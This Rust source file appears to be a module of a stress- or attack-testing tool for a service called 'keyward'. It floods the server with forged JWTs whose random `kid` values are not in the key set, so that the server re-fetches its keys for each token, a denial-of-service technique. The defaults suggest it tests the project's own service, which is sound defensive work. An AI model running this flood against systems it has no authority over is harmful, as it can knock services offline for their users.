//! JSON Web Tokens (RFC 7519) whose `kid` is not in the issuer's key set. Each names another key,
//! so that the server may fetch the set again for each.

use std::sync::Arc;

use base64::Engine as _;
use base64::engine::general_purpose::URL_SAFE_NO_PAD;
use serde_json::{Value, json};

use super::calls::{AttackCall, AttackCalls};
use super::{AttackArgs, frames, storm};
use crate::Outcome;

#[derive(Debug, clap::Args)]
pub(crate) struct UnknownSignersArgs {
    #[command(flatten)]
    attack: AttackArgs,
    /// Claim `iss` of the tokens.
    #[arg(long, value_name = "ISSUER", default_value = "keyward-dev")]
    issuer: String,
    /// Claim `aud` of the tokens.
    #[arg(long, value_name = "AUDIENCE", default_value = "keyward")]
    audience: String,
    /// Number of calls in flight on each connection.
    #[arg(long, value_name = "COUNT", default_value_t = 100)]
    streams: usize,
}

pub(crate) async fn run(args: UnknownSignersArgs) -> Outcome<Value> {
    let mut random = [0; 8];
    getrandom::fill(&mut random)?;
    let run = hex::encode(random);
    let claims = json!({
        "iss": args.issuer, "aud": args.audience, "sub": "unknown", "org": "demo",
        "iat": 1, "exp": 4_000_000_000_u64,
    });
    let claims = URL_SAFE_NO_PAD.encode(claims.to_string());
    let streams = args.streams;
    Ok(storm(&args.attack, |attacker| {
        let (run, claims) = (run.clone(), claims.clone());
        async move {
            let mut connection = 0;
            while attacker.goes_on() {
                let salt = format!("{run}-{}-{connection}", attacker.number);
                let calls = AttackCalls {
                    call: |number: u64| AttackCall {
                        block: call(&format!("{salt}-{number}"), &claims),
                        body: Arc::new([]),
                    },
                    ends: true,
                    reads: true,
                    streams,
                    most: u64::MAX,
                };
                let _ = calls.pour(&attacker).await;
                connection += 1;
            }
        }
    })
    .await)
}

/// Returns the header block of a call with a token that names this key.
fn call(kid: &str, claims: &str) -> Vec<u8> {
    let header = json!({"alg": "ES256", "typ": "JWT", "kid": kid}).to_string();
    let header = URL_SAFE_NO_PAD.encode(header);
    let signature = URL_SAFE_NO_PAD.encode([1; 64]);
    let bearer = format!("Bearer {header}.{claims}.{signature}");
    frames::request("GET", "/apikeys", &[("authorization", &bearer)])
}
